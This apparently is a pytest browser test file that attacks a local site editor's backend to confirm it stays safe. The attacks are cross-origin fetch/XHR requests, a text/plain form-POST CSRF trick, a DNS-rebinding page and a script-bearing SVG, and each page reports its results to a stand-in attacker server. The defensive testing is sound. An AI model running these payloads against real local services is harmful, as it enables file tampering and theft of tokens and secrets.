"""`make studio` in Chromium under attack: no other page can drive the editor's backend (issue 33).

A real `cchc studio` runs in a throwaway project while Chromium opens, as a staff member
might in another tab: a page from another loopback port (fetch, XHR, a no-cors fetch, a form
POST in a hidden frame, reading the editor page), a DNS-rebinding page (a name that resolves
to 127.0.0.1, with --host-resolver-rules), and an SVG with script on the preview's origin
(written straight into the served output/, as one that got past `cchc check` would be).
Each page reports what it got to a server of the test; the repository must be byte-identical,
no report may hold the token or a file's text, and the studio's terminal says a page was
refused. The real editor still works end to end: tests/browser/test_studio.py.
"""

import http.server
import json
import threading
from urllib.parse import urlsplit

import pytest

from bench.localhost import free_port, wait_until
from conftest import start_chromium
from test_studio import need_studio, running_studio, studio_project
from test_studio_backend import SECRET, Client, snapshot

pytestmark = pytest.mark.browser

# What each hostile page sends: a write, an overwrite of the settings the next build runs,
# a delete, reads of a post and of the settings.
BODIES = [
    {"action": "persistEntry", "params": {
        "branch": "main", "dataFiles": [{"slug": "tin-doc", "path": "content/tin-tuc/tin-doc.md",
                                         "raw": "---\ntitle: Tin độc\n---\n"}], "assets": [],
        "options": {"collectionName": "tin-tuc", "commitMessage": "x", "useWorkflow": False, "status": "draft"}}},
    {"action": "persistEntry", "params": {
        "branch": "main", "dataFiles": [{"slug": "x", "path": "studioconf.py", "raw": "import os\n"}], "assets": [],
        "options": {"collectionName": "tin-tuc", "commitMessage": "x", "useWorkflow": False, "status": "draft"}}},
    {"action": "deleteFile", "params": {"branch": "main", "path": "content/tin-tuc/tin-co-san.md",
                                        "options": {"commitMessage": "x"}}},
    {"action": "getEntry", "params": {"branch": "main", "path": "content/tin-tuc/tin-co-san.md"}},
    {"action": "getEntry", "params": {"branch": "main", "path": "studioconf.py"}},
]

# The attack, run by a page at the attacker's origin (ATTACKER: where it reports).
ATTACK_JS = """
const out = [];
async function attempt(name, f) {
  try { out.push([name, "ok", String(await f()).slice(0, 4000)]); }
  catch (e) { out.push([name, "error", String(e)]); }
}
async function attack(E, P, ATTACKER, BODIES, report) {
  await attempt("read the editor page", async () => (await fetch(E + "/admin/")).text());
  await attempt("read the preview's /admin/", async () => (await fetch(P + "/admin/")).text());
  for (const body of BODIES.map(b => JSON.stringify(b))) {
    for (const api of [E + "/api/v1", P + "/api/v1"]) {
      await attempt("fetch json " + api, async () => {
        const r = await fetch(api, {method: "POST", body,
          headers: {"Content-Type": "application/json", "X-CCHC-Token": "doan-bua"}});
        return r.status + " " + await r.text();
      });
      await attempt("fetch no-cors " + api, async () =>
        (await fetch(api, {method: "POST", mode: "no-cors", body, headers: {"Content-Type": "text/plain"}})).type);
      await attempt("xhr " + api, () => new Promise((resolve, reject) => {
        const x = new XMLHttpRequest();
        x.open("POST", api);
        x.setRequestHeader("Content-Type", "application/json");
        x.onload = () => resolve(x.status + " " + x.responseText);
        x.onerror = () => reject(new Error("xhr refused"));
        x.send(body);
      }));
    }
    // A form posting text/plain that reads as JSON: name + "=" + value.
    await attempt("form post", () => new Promise(resolve => {
      const frame = document.createElement("iframe");
      frame.name = "f" + Math.random().toString(36).slice(2);
      document.body.appendChild(frame);
      const form = document.createElement("form");
      form.method = "POST"; form.action = E + "/api/v1"; form.enctype = "text/plain"; form.target = frame.name;
      const input = document.createElement("input");
      input.name = body.slice(0, -1) + ',"x":"'; input.value = '"}';
      form.appendChild(input); document.body.appendChild(form);
      frame.onload = () => resolve("sent");
      setTimeout(() => resolve("sent (no load event)"), 3000);
      form.submit();
    }));
  }
  await report(JSON.stringify(out));
}
"""


class Attacker(http.server.ThreadingHTTPServer):
    """The hostile site: serves pages at its own loopback port, keeps what they report."""

    def __init__(self):
        self.pages, self.reports = {}, []
        super().__init__(("127.0.0.1", free_port()), _AttackerHandler)
        self.origin = f"http://127.0.0.1:{self.server_address[1]}"


class _AttackerHandler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_args):
        pass

    def do_GET(self):
        page = self.server.pages.get(urlsplit(self.path).path)
        body = (page or "").encode("utf-8")
        self.send_response(200 if page else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        data = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.server.reports.append(data.decode("utf-8", "replace"))
        self.send_response(204)
        self.end_headers()


@pytest.fixture(scope="module")
def studio(tmp_path_factory):
    need_studio()
    proj = studio_project(tmp_path_factory.mktemp("attacked"))
    (proj / "secret.txt").write_text(SECRET, encoding="utf-8")
    with running_studio(proj, proj / "studio.log") as running:
        running["token"] = Client(running).token
        yield running


@pytest.fixture(scope="module")
def attacker():
    server = Attacker()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def chromium():
    # rebind.test resolves to 127.0.0.1, as a DNS-rebinding name does once it has flipped.
    driver = start_chromium(args=("--host-resolver-rules=MAP rebind.test 127.0.0.1",))
    yield driver
    driver.quit()


def _assert_nothing_leaked(studio, reports):
    text = "\n".join(reports)
    assert studio["token"] not in text
    for secret in (SECRET, "Tin có sẵn", "T\\u00f3m t\\u1eaft", "CCHC_STUDIO", "cchc-api-token"):
        assert secret not in text, (secret, text[:3000])


def test_a_page_from_another_loopback_port_cannot_use_the_editor(studio, attacker, chromium):
    proj = studio["proj"]
    before = snapshot(proj)
    attacker.pages["/tan-cong.html"] = (
        "<!DOCTYPE html><html><head><title>Trang lạ</title></head><body><script>" + ATTACK_JS
        + f"attack({json.dumps(studio['editor'])}, {json.dumps(studio['base'])}, null, {json.dumps(BODIES)},"
        " data => fetch('/report', {method: 'POST', body: data}));</script></body></html>")
    chromium.get(f"{attacker.origin}/tan-cong.html")
    assert wait_until(lambda: attacker.reports, 90), "the hostile page never reported"
    report = json.loads(attacker.reports[-1])
    assert len(report) == 2 + len(BODIES) * 7, report  # every attempt was made
    assert not [r for r in report if r[1] == "ok" and r[2].startswith("200")], report
    _assert_nothing_leaked(studio, attacker.reports)
    assert snapshot(proj) == before
    log = studio["log"].read_text(encoding="utf-8")
    assert f"CẢNH BÁO một trang web khác ({attacker.origin}) vừa thử dùng bộ ghi bài" in log, log


def test_a_dns_rebinding_page_gets_neither_the_token_nor_the_api(studio, chromium):
    """http://rebind.test:<editor port>/ is, to the browser, the page's own origin: requests go
    without any preflight, but name the wrong Host and Origin."""
    proj = studio["proj"]
    before = snapshot(proj)
    chromium.get(f"http://rebind.test:{studio['backend_port']}/admin/")
    page = chromium.page_source
    assert studio["token"] not in page and "từ chối" in page, page
    results = chromium.execute_async_script("""
        const done = arguments[arguments.length - 1], bodies = arguments[0], token = arguments[1], out = [];
        (async () => {
          out.push((await fetch("/admin/")).status);
          for (const b of bodies) {
            const r = await fetch("/api/v1", {method: "POST", body: JSON.stringify(b),
              headers: {"Content-Type": "application/json", "X-CCHC-Token": token}});
            out.push(r.status + " " + await r.text());
          }
          done(out);
        })().catch(e => done(["error " + e]));
    """, BODIES, "doan-bua")
    assert results[0] == 403 and all(str(r).startswith("403 ") for r in results[1:]), results
    _assert_nothing_leaked(studio, [json.dumps(results)])
    assert snapshot(proj) == before
    assert "DNS rebinding" in studio["log"].read_text(encoding="utf-8")


def test_an_svg_on_the_preview_cannot_use_the_editor(studio, attacker, chromium):
    """An SVG with script served by the preview (as one that got past the check would be):
    sandboxed, its script does not run; had it run, the editor is another origin."""
    proj = studio["proj"]
    before = snapshot(proj)
    attacker.reports.clear()
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA['
           "window.__cchcRan = true;" + ATTACK_JS
           + f"attack({json.dumps(studio['editor'])}, {json.dumps(studio['base'])}, null, {json.dumps(BODIES[:3])},"
           f" data => fetch({json.dumps(attacker.origin + '/report')}, {{method: 'POST', mode: 'no-cors', body: data}}));"
           "]]></script></svg>")
    (proj / "output" / "images").mkdir(exist_ok=True)
    (proj / "output" / "images" / "tan-cong.svg").write_text(svg, encoding="utf-8")
    chromium.get(f"{studio['base']}/images/tan-cong.svg")
    ran = chromium.execute_script("return window.__cchcRan === true;")
    if ran:  # the sandbox did not hold: let the script finish, then check the second wall
        wait_until(lambda: attacker.reports, 60)
    _assert_nothing_leaked(studio, attacker.reports)
    assert snapshot(proj) == before
    assert not ran, "an SVG opened on the preview ran its script"
